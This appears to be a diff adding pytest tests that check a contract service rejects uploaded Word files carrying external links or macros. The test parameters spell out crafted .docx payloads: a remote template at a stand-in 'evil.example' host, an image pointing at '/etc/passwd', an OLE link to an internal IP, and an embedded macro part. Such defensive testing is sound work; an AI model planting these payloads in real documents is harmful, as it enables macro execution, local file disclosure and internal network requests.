@@ -2,9 +2,11 @@
 before its fix."""
 from __future__ import annotations
 
+import io
 import re
 import threading
 import time
+import zipfile
 from collections.abc import Callable
 from datetime import timedelta
 from decimal import Decimal
@@ -21,12 +23,14 @@ from core.db import make_engine
 from core.errors import DomainError
 from core.orders.services import Actor, change_status, submit_order
 from core.outbox import OutboxEvent
+from edo.docx_template import TemplateProblem, check_template
 from edo.generate import generate_contract
 from edo.handlers import send_approved_contract
 from edo.models import Contract, RegistrationIncentive
 from edo.template_versions import install_template
 from edo.vchasno.client import retry_after_seconds
 from tests.conftest import login
+from tests.edo.documents import docx
 from tests.edo.conftest import IBAN, approve, documents, events, fail_next, logged, register, relay
 from tests.own_database import own_database, seed_customers  # noqa: F401  the fixture
 
@@ -163,3 +167,53 @@ def test_a_cancelled_order_gives_its_registration_discount_back(
 def _order(db: Any, user: Any, product: Any) -> Any:
     return submit_order(db, user.company, [(product.id, Decimal("1"))], actor=Actor.of(user),
                         idempotency_key=f"k{time.monotonic_ns()}", delivery_point_id=user.company.delivery_points[0].id).order
+
+
+def _with_member(data: bytes, name: str, content: bytes) -> bytes:
+    """The .docx with one part added or replaced, as a crafted upload would be."""
+    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            if item.filename != name:
+                target.writestr(item, source.read(item))
+        target.writestr(name, content)
+    return out.getvalue()
+
+
+def _with_relationship(data: bytes, kind: str, target: str) -> bytes:
+    rels = zipfile.ZipFile(io.BytesIO(data)).read("word/_rels/document.xml.rels").decode()
+    added = (f'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
+             f'Target="{target}" TargetMode="External"/></Relationships>')
+    return _with_member(data, "word/_rels/document.xml.rels", rels.replace("</Relationships>", added).encode())
+
+
+def _edit(app: Flask, manager: Any, contract: Contract, data: bytes) -> Any:
+    return logged(app, manager).post(f"/staff/contracts/{contract.id}/edit", content_type="multipart/form-data",
+                                     data={"file": (io.BytesIO(data), "mine.docx")})
+
+
+@pytest.mark.parametrize(("kind", "target"), [
+    ("attachedTemplate", "https://evil.example/t.dotm"),  # Word fetches it (and its macros) on opening
+    ("image", "file:///etc/passwd"),  # LibreOffice would read it into the PDF
+    ("oleObject", "http://10.0.0.1/admin"),
+])
+def test_a_word_file_linking_outside_or_with_macros_is_refused(
+    app: Flask, db: Any, ready_company: Company, manager: Any, generate: Callable[..., Contract], kind: str, target: str,
+) -> None:
+    contract = generate(ready_company, manager)
+    for data in (_with_relationship(docx("Договір № 1"), kind, target),
+                 _with_member(docx("Договір № 1"), "word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros")):
+        response = _edit(app, manager, contract, data)
+        assert response.status_code == 400 and "зовнішні" in response.get_data(as_text=True)
+        with pytest.raises(TemplateProblem, match="зовнішні"):
+            check_template(data)
+    db.refresh(contract)
+    assert contract.edited_file_id is None
+
+
+def test_a_word_file_with_a_hyperlink_is_still_accepted(
+    app: Flask, db: Any, ready_company: Company, manager: Any, generate: Callable[..., Contract],
+) -> None:
+    contract = generate(ready_company, manager)
+    assert _edit(app, manager, contract, _with_relationship(docx("Договір № 1"), "hyperlink", "https://vchasno.ua/")
+                 ).status_code == 302
